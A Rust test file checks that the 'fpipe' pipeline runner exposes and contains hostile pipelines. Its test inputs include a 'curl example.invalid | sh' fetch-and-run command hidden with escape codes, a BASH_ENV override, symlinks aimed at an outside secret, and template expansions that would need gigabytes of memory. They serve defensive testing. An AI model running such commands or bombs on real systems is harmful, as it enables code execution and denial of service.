//! Pipelines from someone else, and careless ones: `validate` shows everything that would run,
//! nothing outside a stage's working directory is touched or taken in, and small inputs fail
//! at once with a message instead of exhausting memory or time. Only `shell` stages, so these
//! run with and without the face stages.

mod common;
use common::{Project, Run};
use std::io::Read;
use std::process::Stdio;
use std::time::{Duration, Instant};

/// Runs fpipe with an address-space limit and a deadline, so that a regression (a hostile
/// input that allocates or loops without bound) fails the test instead of the machine.
fn bounded(p: &Project, args: &[&str]) -> Run {
    let mut cmd = p.cmd(args);
    #[cfg(unix)]
    {
        use std::os::unix::process::CommandExt;
        // SAFETY: setrlimit is async-signal-safe; nothing else runs between fork and exec.
        unsafe {
            cmd.pre_exec(|| {
                let limit = libc::rlimit {
                    rlim_cur: 4 << 30,
                    rlim_max: 4 << 30,
                };
                libc::setrlimit(libc::RLIMIT_AS, &limit);
                Ok(())
            });
        }
    }
    let mut child = cmd
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start fpipe");
    let start = Instant::now();
    loop {
        if child.try_wait().expect("wait").is_some() {
            break;
        }
        if start.elapsed() > Duration::from_secs(60) {
            let _ = child.kill();
            let _ = child.wait();
            panic!("fpipe {args:?} still running after 60 s");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    Run::from(child.wait_with_output().expect("output"))
}

fn rejected(p: &Project, args: &[&str], needle: &str) -> String {
    let r = bounded(p, args);
    assert_eq!(r.code, 2, "expected exit 2:\n{}", r.all());
    assert!(
        r.stderr.contains(needle),
        "expected `{needle}` in:\n{}",
        r.stderr
    );
    assert!(!r.stderr.contains("panicked"), "{}", r.stderr);
    r.stderr
}

#[test]
fn validate_shows_program_arguments_environment_and_links() {
    let p = Project::new();
    p.write("scripts/prep.sh", "echo prep\n");
    p.write("evil.sh", "echo gotcha\n");
    p.write(
        "v.yaml",
        r#"stages:
  s:
    uses: shell
    with:
      shell: bash
      run: ./scripts/prep.sh
      env: {BASH_ENV: evil.sh, MODE: "a b"}
      deps: [scripts/prep.sh, evil.sh]
"#,
    );
    let r = p.fpipe(&["validate", "v.yaml"]).ok();
    let out = &r.stdout;
    assert!(out.contains("  [s]\n    $ ./scripts/prep.sh\n"), "{out}");
    assert!(
        out.contains("    program: bash -c <the command above>\n"),
        "{out}"
    );
    assert!(out.contains("    env: BASH_ENV=evil.sh\n"), "{out}");
    assert!(out.contains("    env: MODE='a b'\n"), "{out}");
    let base = std::fs::canonicalize(p.path()).unwrap();
    let linked = |rel: &str| {
        format!(
            "    links in: {rel} -> {}\n",
            std::path::absolute(p.path().join(rel)).unwrap().display()
        )
    };
    assert!(
        out.contains(&linked("scripts/prep.sh")) || out.contains(&format!("{}", base.display())),
        "{out}"
    );
    assert!(out.contains(&linked("evil.sh")), "{out}");
    assert!(
        out.contains("files and folders it reads by path (2):"),
        "{out}"
    );
    assert!(!p.path().join(".fpipe").exists(), "validate runs nothing");
}

#[test]
fn control_characters_are_shown_escaped() {
    let p = Project::new();
    p.write(
        "v.yaml",
        "stages:\n  s:\n    uses: shell\n    with:\n      run: \"curl example.invalid | sh\\r echo harmless \\e[2K\"\n      env: {X: \"\\u202e\"}\n",
    );
    let r = p.fpipe(&["validate", "v.yaml"]).ok();
    assert!(
        r.stdout
            .contains("$ curl example.invalid | sh\\r echo harmless \\x1b[2K"),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("env: X='\\u{202e}'"), "{}", r.stdout);
    for c in ['\r', '\x1b', '\u{202e}'] {
        assert!(!r.stdout.contains(c), "raw {c:?} printed:\n{}", r.stdout);
    }
    // A failing command's log tail reaches the terminal escaped too.
    p.write(
        "f.yaml",
        "stages:\n  s:\n    uses: shell\n    with: {run: \"printf 'all good\\\\033[2K\\\\rreally'; exit 3\"}\n",
    );
    let r = p.fpipe(&["run", "f.yaml"]);
    assert_eq!(r.code, 1, "{}", r.all());
    assert!(
        r.stderr.contains("all good\\x1b[2K\\rreally"),
        "{}",
        r.stderr
    );
    assert!(!r.stderr.contains('\x1b'), "{}", r.stderr);
    // And a changed parameter in `status`.
    p.write(
        "f.yaml",
        "stages:\n  s:\n    uses: shell\n    with: {run: \"true\"}\n",
    );
    p.fpipe(&["run", "f.yaml"]).ok();
    p.write(
        "f.yaml",
        "stages:\n  s:\n    uses: shell\n    with: {run: \"true \\u202e\"}\n",
    );
    let r = p.fpipe(&["status", "f.yaml"]).ok();
    assert!(r.stdout.contains("\\u{202e}"), "{}", r.stdout);
    assert!(!r.stdout.contains('\u{202e}'), "{}", r.stdout);
    // Metric names a command reports, and the pipeline's name, reach `show` escaped.
    p.write(
        "m.yaml",
        "name: \"exp\\e[2J\"\nstages:\n  s:\n    uses: shell\n    with: {run: \"printf '{\\\"acc\\\\u001b[31m\\\": 1.5}' > $FPIPE_METRICS\"}\n",
    );
    p.fpipe(&["run", "m.yaml"]).ok();
    let r = p.fpipe(&["show", "m.yaml"]).ok();
    assert!(r.stdout.contains("acc\\x1b[31m"), "{}", r.stdout);
    assert!(r.stdout.contains("exp\\x1b[2J"), "{}", r.stdout);
    assert!(!r.stdout.contains('\x1b'), "{}", r.stdout);
}

/// A folder outside every project, holding one file a stage must never touch.
fn outside_file() -> (tempfile::TempDir, std::path::PathBuf) {
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("secret.txt");
    std::fs::write(&secret, "mine").unwrap();
    (outside, secret)
}

#[cfg(unix)]
#[test]
fn an_output_folder_with_a_link_outside_is_refused_and_nothing_outside_changes() {
    use std::os::unix::fs::PermissionsExt;
    let p = Project::new();
    let (outside, secret) = outside_file();
    p.write(
        "l.yaml",
        &format!(
            "stages:\n  s:\n    uses: shell\n    with:\n      run: mkdir out && echo x > out/a && ln -s {} out/ext\n      outputs: [out]\n",
            outside.path().display()
        ),
    );
    let r = p.fpipe(&["run", "l.yaml"]);
    assert_eq!(r.code, 1, "{}", r.all());
    assert!(
        r.stderr.contains("output `out/ext` is a link to")
            && r.stderr.contains("outside the stage's working directory"),
        "{}",
        r.stderr
    );
    let mode = std::fs::metadata(&secret).unwrap().permissions().mode();
    assert_ne!(mode & 0o200, 0, "the outside file was made read-only");
    let objects = p.path().join(".fpipe/objects");
    let published = std::fs::read_dir(&objects).map(|d| d.count()).unwrap_or(0);
    assert_eq!(published, 0, "nothing may be published");
}

#[cfg(unix)]
#[test]
fn a_single_file_output_linking_outside_is_refused() {
    let p = Project::new();
    let (_outside, secret) = outside_file();
    p.write(
        "l.yaml",
        &format!(
            "stages:\n  s:\n    uses: shell\n    with:\n      run: ln -s {} out.txt\n      outputs: [out.txt]\n",
            secret.display()
        ),
    );
    let r = p.fpipe(&["run", "l.yaml"]);
    assert_eq!(r.code, 1, "{}", r.all());
    assert!(
        r.stderr.contains("output `out.txt` is a link to"),
        "{}",
        r.stderr
    );
}

#[cfg(unix)]
#[test]
fn links_inside_the_working_directory_become_files_and_dangling_ones_are_named() {
    let p = Project::new();
    p.write(
        "l.yaml",
        "stages:\n  s:\n    uses: shell\n    with:\n      run: mkdir d && echo hi > d/real && ln -s real d/alias && ln -s d/real top\n      outputs: [d, top]\n",
    );
    p.fpipe(&["run", "l.yaml"]).ok();
    let dir = p.fpipe(&["out", "s"]).ok().stdout.trim().to_string();
    let dir = std::path::Path::new(&dir);
    for f in ["d/real", "d/alias", "top"] {
        let meta = std::fs::symlink_metadata(dir.join(f)).unwrap();
        assert!(meta.is_file(), "{f} is kept as a plain file");
        assert_eq!(std::fs::read_to_string(dir.join(f)).unwrap(), "hi\n");
    }
    p.write(
        "d.yaml",
        "stages:\n  s:\n    uses: shell\n    with: {run: ln -s missing x, outputs: [x]}\n",
    );
    let r = p.fpipe(&["run", "d.yaml"]);
    assert_eq!(r.code, 1, "{}", r.all());
    assert!(
        r.stderr
            .contains("output `x` is a link to `missing` that dangles"),
        "{}",
        r.stderr
    );
}

#[test]
fn deps_outside_the_pipeline_folder_are_refused_before_anything_runs() {
    let p = Project::new();
    p.write("x", "data\n");
    p.write(
        "sub/deep/up.yaml",
        "stages:\n  s:\n    uses: shell\n    with:\n      run: cat x\n      deps: [\"../../x\"]\n",
    );
    let e = rejected(
        &p,
        &["validate", "sub/deep/up.yaml"],
        "sub/deep/up.yaml:6: stage `s`: parameter `deps`: `../../x` leaves the pipeline file's folder",
    );
    assert!(e.contains("hint:"), "{e}");
    let abs = std::path::absolute(p.path().join("x")).unwrap();
    p.write(
        "abs.yaml",
        &format!(
            "stages:\n  s:\n    uses: shell\n    with: {{run: cat x, deps: [\"{}\"]}}\n",
            abs.display()
        ),
    );
    rejected(&p, &["run", "abs.yaml"], "is an absolute path");
    assert!(!p.path().join("sub/deep/.fpipe").exists());
    assert!(!p.path().join(".fpipe").exists());
    // Deps that overlap would place one link inside another (into the user's own folder).
    p.write("d/x", "1\n");
    p.write(
        "o.yaml",
        "stages:\n  s:\n    uses: shell\n    with: {run: cat d/x, deps: [d, d/x]}\n",
    );
    rejected(&p, &["validate", "o.yaml"], "lies inside dep");
    // Inside the folder, `a/../x` is just `x`, and the stage reads it.
    p.write(
        "ok.yaml",
        "stages:\n  s:\n    uses: shell\n    with: {run: cp x y, deps: [\"d/../x\"], outputs: [y]}\n",
    );
    p.fpipe(&["run", "ok.yaml"]).ok();
}

#[test]
fn stage_names_that_read_as_paths_ports_or_flags_are_refused() {
    for name in [".", "..", "a.b", "-", "-x"] {
        let p = Project::new();
        p.write(
            "n.yaml",
            &format!("stages:\n  \"{name}\":\n    uses: shell\n    with: {{run: \"true\"}}\n"),
        );
        let e = rejected(&p, &["validate", "n.yaml"], "invalid stage name");
        assert!(e.contains("letters, digits, `_` and `-`"), "{e}");
    }
}

#[test]
fn duplicate_and_nested_outputs_say_so() {
    let p = Project::new();
    p.write(
        "o.yaml",
        "stages:\n  s:\n    uses: shell\n    with: {run: \"true\", outputs: [x, x]}\n",
    );
    rejected(&p, &["validate", "o.yaml"], "output `x` is listed twice");
    p.write(
        "o.yaml",
        "stages:\n  s:\n    uses: shell\n    with: {run: \"true\", outputs: [d/x, d]}\n",
    );
    rejected(
        &p,
        &["validate", "o.yaml"],
        "output `d/x` lies inside output `d`",
    );
}

#[test]
fn huge_expansions_fail_at_once() {
    let p = Project::new();
    p.write(
        "f.yaml",
        "stages:\n  s:\n    foreach: 100000000000\n    uses: shell\n    with: {run: \"true\"}\n",
    );
    rejected(&p, &["validate", "f.yaml"], "more than 20000 stages");
    p.write(
        "m.yaml",
        "stages:\n  s:\n    matrix: {a: [1,2,3,4,5,6,7,8,9,10], b: [1,2,3,4,5,6,7,8,9,10], c: [1,2,3,4,5,6,7,8,9,10], d: [1,2,3,4,5,6,7,8,9,10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 21]}\n    uses: shell\n    with: {run: \"true\"}\n",
    );
    rejected(&p, &["validate", "m.yaml"], "has 21000 combinations");
}

#[test]
fn templates_that_work_too_much_fail_naming_the_file() {
    let p = Project::new();
    p.write(
        "t.yaml",
        "stages:\n{% for a in range(10000) %}{% for b in range(10000) %}{% for c in range(10000) %}{% endfor %}{% endfor %}{% endfor %}  s:\n    uses: shell\n    with: {run: \"true\"}\n",
    );
    rejected(
        &p,
        &["validate", "t.yaml"],
        "t.yaml:2: the template did too much work",
    );
    p.write(
        "big.yaml",
        "stages:\n  s:\n    uses: shell\n    with: {run: \"true {% for i in range(1000) %}{{ 'x' * 1000000 }}{% endfor %}\"}\n",
    );
    rejected(&p, &["validate", "big.yaml"], "rendered more than 16 MB");
    // Few steps and no output, but each `set` doubles a string: 300 bytes asking for 25 GB.
    p.write(
        "double.yaml",
        "stages:\n  s:\n    uses: shell\n    with: {run: \"{% set a = 'x' * 100000000 %}{% set b = a ~ a %}{% set c = b ~ b %}{% set d = c ~ c %}{% set e = d ~ d %}{% set f = e ~ e %}{% set g = f ~ f %}{% set h = g ~ g %}{{ h|length }}\"}\n",
    );
    let e = rejected(
        &p,
        &["validate", "double.yaml"],
        "needed more than 1 GiB of memory to load",
    );
    assert!(e.contains("nothing ran"), "{e}");
}

#[test]
fn slot_counts_are_bounded() {
    let p = Project::new();
    p.write(
        "s.yaml",
        "stages:\n  s:\n    uses: shell\n    with: {run: \"true\"}\n",
    );
    rejected(&p, &["run", "s.yaml", "--gpus", "99999999999"], "--gpus");
    rejected(&p, &["run", "s.yaml", "-j", "99999999999"], "--jobs");
    assert!(!p.path().join(".fpipe").exists());
}

#[test]
fn a_reader_that_goes_away_ends_validate_quietly() {
    let p = Project::new();
    p.write(
        "many.yaml",
        "stages:\n  s:\n    foreach: 3000\n    uses: shell\n    with: {run: \"echo a long enough command line for item ${item}\"}\n",
    );
    let mut child = p
        .cmd(&["validate", "many.yaml"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = [0u8; 16];
    child.stdout.take().unwrap().read_exact(&mut first).unwrap(); // then the pipe closes
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert!(
        out.status.code().is_none_or(|c| c == 0),
        "ends quietly: {:?} {stderr}",
        out.status
    );
}

#[test]
fn a_parameter_that_breaks_the_yaml_is_named() {
    let p = Project::new();
    p.write(
        "p.yaml",
        "params: {k: 1}\nstages:\n  a:\n    uses: shell\n    with:\n      run: echo {{ params.k }}\n",
    );
    let e = rejected(
        &p,
        &["validate", "p.yaml", "-p", "k=[1,{a: 2}]"],
        "p.yaml:6: malformed YAML",
    );
    assert!(
        e.contains("after templates, line 6 reads `run: echo"),
        "{e}"
    );
    assert!(e.contains("the value given with -p k=[1,{a: 2}]"), "{e}");
}

/// The load budget lowers the data limit only while the pipeline loads: stages run with the
/// limit fpipe was started with.
#[cfg(target_os = "linux")]
#[test]
fn stages_run_with_the_data_limit_fpipe_was_given() {
    let limit_line = |text: &str| {
        text.lines()
            .find(|l| l.starts_with("Max data size"))
            .map(|l| l.split_whitespace().collect::<Vec<_>>().join(" "))
            .unwrap()
    };
    let mine = limit_line(&std::fs::read_to_string("/proc/self/limits").unwrap());
    let p = Project::new();
    p.write(
        "l.yaml",
        "stages:\n  s:\n    uses: shell\n    with: {run: \"cat /proc/self/limits > lim\", outputs: [lim]}\n",
    );
    p.fpipe(&["run", "l.yaml"]).ok();
    let dir = p.fpipe(&["out", "s", "-f", "l.yaml"]).ok().stdout;
    let theirs = std::fs::read_to_string(std::path::Path::new(dir.trim()).join("lim")).unwrap();
    assert_eq!(limit_line(&theirs), mine);
}
